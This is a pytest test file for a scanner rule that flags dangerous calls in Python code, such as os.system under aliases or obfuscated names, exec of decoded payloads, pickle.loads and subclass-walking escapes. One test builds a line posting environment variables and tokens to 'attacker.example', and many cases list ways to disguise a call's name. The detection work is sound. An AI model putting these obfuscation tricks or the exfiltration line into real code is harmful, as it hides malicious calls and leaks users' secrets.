"""Rule `python-dangerous-call`."""

import pytest

from support.rule_vectors import assert_vector_holds, findings_of
from support.scanning import examined
from weighbridge.core.artifact import FileFormat
from weighbridge.core.evidence import Severity

RULE = "python-dangerous-call"


def test_vector() -> None:
    """A command under another name is found, a harmless function is not."""
    assert_vector_holds(RULE)


def _names(source: str) -> set[str]:
    evidence = examined(source.encode(), format=FileFormat.PYTHON_SOURCE, path="x.py")
    return {f.message.rpartition(": ")[2] for f in findings_of(RULE, evidence)}


@pytest.mark.parametrize(
    "source",
    [
        "import os\nos.system('x')",
        "from os import system\nsystem('x')",
        "from os import system as s\nprint(s)",
        "import os\na = os\nb = a.system\nb('x')",
        "import os\na, b = os, 1\na.system('x')",
        "import os\ngetattr(os, 'sys' + 'tem')('x')",
        "import os\nvars(os)['system']('x')",
        "import os\nos.__dict__['system']('x')",
        "__import__('os').system('x')",
        "import importlib\nimportlib.import_module('os').system('x')",
        "import sys\nsys.modules['os'].system('x')",
        "import os\nglobals()['os'].system('x')",
        "import os\n(None or os).system('x')",
        "import os\n(os if 1 else None).system('x')",
        "import os\n(a := os).system('x')",
        "import os\na: object = os\na.system('x')",
        "import os\nif (a := os):\n    a.system('x')",
        "import os\nwith os as a:\n    a.system('x')",
        "class A:\n    import os\n    f = os.system",
        "from os import *\nsystem('x')",
        "import os\n@os.system\ndef f(): pass",
    ],
)
def test_names_of_a_command(source: str) -> None:
    """A command is found under every name that the tree alone shows."""
    assert "os.system" in _names(source)


@pytest.mark.parametrize(
    "expression",
    [
        "'metsys'[::-1]",
        "'xsystemx'[1:-1]",
        "''.join(['sys', 'tem'])",
        "''.join(('s', 'y', 's', 't', 'e', 'm'))",
        "''.join(reversed('metsys'))",
        "''.join(map(chr, [115, 121, 115, 116, 101, 109]))",
        "''.join(chr(i) for i in (115, 121, 115, 116, 101, 109))",
        "''.join([chr(i ^ 1) for i in b'rxrudl'])",
        "chr(115) + 'ystem'",
        "str('system')",
        "'%s%s' % ('sys', 'tem')",
        "f\"{'sys'}tem\"",
        "'SYSTEM'.lower()",
        "' system '.strip()",
        "'s-y-s-t-e-m'.replace('-', '')",
        "b'system'.decode()",
        "bytes([115, 121, 115, 116, 101, 109]).decode()",
        "bytes.fromhex('73797374656d').decode('ascii')",
        "base64.b64decode('c3lzdGVt').decode()",
        "base64.b64decode(b'c3lzdGVt').decode()",
        "base64.b64decode(base64.b64decode('YzNsemRHVnQ=')).decode()",
        "codecs.decode('flfgrz', 'rot13')",
        "name",
    ],
)
def test_names_that_are_put_together(expression: str) -> None:
    """A name that constants make is the name, in whatever way they make it."""
    source = "import os, base64, codecs\nname = 'sys' + 'tem'\ngetattr(os, {})('x')"
    assert "os.system" in _names(source.format(expression))


@pytest.mark.parametrize(
    "expression",
    [
        "name", "'a'[x]", "'a'[::0]", "'a'[9]", "''.join(x)", "x.join(['a'])", "''.join([x])",
        "chr(-1)", "chr(x)", "chr(9999999)", "''.join(chr(i) for i in x)", "'a' - 'b'",
        "''.join(chr(i) for i in (1,) if i)", "''.join(f(i) for i in (1,))", "x % 'a'", "'a' % x",
        "''.join(map(chr, [-1]))", "'a'.replace(x, 'b')", "'a'.center(3)", "b'\\xff'.decode()",
        "bytes([999]).decode()", "bytes.fromhex('zz').decode()", "bytes.fromhex('é').decode()",
        "codecs.decode('a', 'hex')", "codecs.decode('a')", "f'{x}'", "'a' * 300", "'a' + x",
        "'" + "a" * 300 + "'", "f'{name!r:>{x}}'", "base64.b64decode(x).decode()",
    ],
)  # fmt: skip
def test_names_that_are_not_constant(expression: str) -> None:
    """What is no constant name is one that is computed."""
    source = f"import os\nname = input()\ngetattr(os, {expression})('x')"
    assert {name for name in _names(source) if name.startswith("os.")} <= {"os.?"}


def test_what_the_environment_holds_is_sent() -> None:
    """Passing the environment to the network is grave, also by way of a name; reading it is not."""
    template = "import os, requests, json\n{}\nrequests.post('http://attacker.example/', {})"
    for before, argument in (
        ("", "os.environ"),
        ("", "json=dict(os.environ)"),
        ("token = os.getenv('TOKEN')", "data=token"),
        ("a = {'x': os.environ['X']}\nb = json.dumps(a)", "b"),
    ):
        source = template.format(before, argument).encode()
        found = findings_of(RULE, examined(source, format=FileFormat.PYTHON_SOURCE))
        assert "sends what the environment holds" in found[0].message
        assert found[0].severity is Severity.HIGH
    harmless = template.format("token = os.getenv('TOKEN')", "{}").encode()
    (finding,) = findings_of(RULE, examined(harmless, format=FileFormat.PYTHON_SOURCE))
    assert finding.severity is Severity.MEDIUM


@pytest.mark.parametrize(
    "source",
    [
        "import base64\nx = base64.b64decode('eA==')\nexec(x)",
        "import zlib, marshal\nx = zlib.decompress(b'')\ny = x.strip()\nexec(compile(y, '', 'exec'))",
        "import codecs\nf = codecs.decode\neval(f('x', 'rot13'))",
    ],
)
def test_decoded_code_by_way_of_names(source: str) -> None:
    """Running what was decoded is the gravest, also where it was kept under a name."""
    found = findings_of(RULE, examined(source.encode(), format=FileFormat.PYTHON_SOURCE))
    assert Severity.CRITICAL in {f.severity for f in found}


@pytest.mark.parametrize(
    ("source", "name"),
    [
        ("__builtins__.eval('x')", "eval"),
        ("__builtins__['eval']('x')", "eval"),
        ("import builtins\nbuiltins.exec('x')", "exec"),
        ("import subprocess as s\ns.run([])", "subprocess.run"),
        ("from ctypes import CDLL\nCDLL('x')", "ctypes.CDLL"),
        ("import urllib.request as u\nu.urlopen('x')", "urllib.request.urlopen"),
        ("import pickle\npickle.loads(b'')", "pickle.loads"),
        ("().__class__.__base__.__subclasses__()", "?.__class__.__base__.__subclasses__"),
        ("import os\ngetattr(os, input())", "os.?"),
        ("import os\nprint(getattr(os, 'system'))", "os.system"),
        ("open('x', 'w')", "open"),
        ("open('x', mode='ab')", "open"),
        ("import base64\nbase64.b64decode('x')", "base64.b64decode"),
        ("def f():\n    return globals()['eval']('x')", "eval"),
        ("import os\nos.__dict__[input()]('x')", "os.?"),
        ("from . import a\nfrom os import path, system", "os.system"),
        ("import os.path as p, os\n[a, b] = [os, p]\na.system", "os.system"),
    ],
)
def test_other_names(source: str, name: str) -> None:
    """Each kind of danger is found."""
    assert name in _names(source)


@pytest.mark.parametrize(
    "source",
    [
        "code = 'x'\ncode.strip()",
        "requests = []\nrequests.append(1)",
        "model.eval()",
        "import re\nre.compile('x')",
        "import torch\ntorch.compile(1)",
        "import os\nos.path.join('a', 'b')",
        "from urllib.parse import urlparse\nurlparse('x')",
        "import subprocess as s\nprint(s.PIPE, s.CalledProcessError)",
        "open('x')",
        "open('x', encoding='utf-8')",
        "from . import code\ncode.run()",
        "import os",
        "a[0].b",
        "a.b[0] = c.d",
        "a, b = c",
        "(lambda: 0)()",
        "x" + ".y" * 40,
        "import os as " + "o" * 300 + "\n" + "o" * 300 + "." + "s" * 300,
        "import math\nmath.floor(1)",
    ],
)
def test_harmless(source: str) -> None:
    """What model code does all the time is not found."""
    assert _names(source) == set()


def test_decoded_code() -> None:
    """Running what comes out of a decoder is the gravest."""
    source = b"import base64\nexec(base64.b64decode('eA=='))"
    evidence = examined(source, format=FileFormat.PYTHON_SOURCE)
    severities = {f.severity for f in findings_of(RULE, evidence)}
    assert Severity.CRITICAL in severities
    plain = examined(b"exec('x')", format=FileFormat.PYTHON_SOURCE)
    assert [f.severity for f in findings_of(RULE, plain)] == [Severity.HIGH]


def test_one_finding_for_a_line() -> None:
    """The same name on the same line is found once."""
    source = b"import os\nos.system('a'); os.system('b')"
    assert len(findings_of(RULE, examined(source, format=FileFormat.PYTHON_SOURCE))) == 1
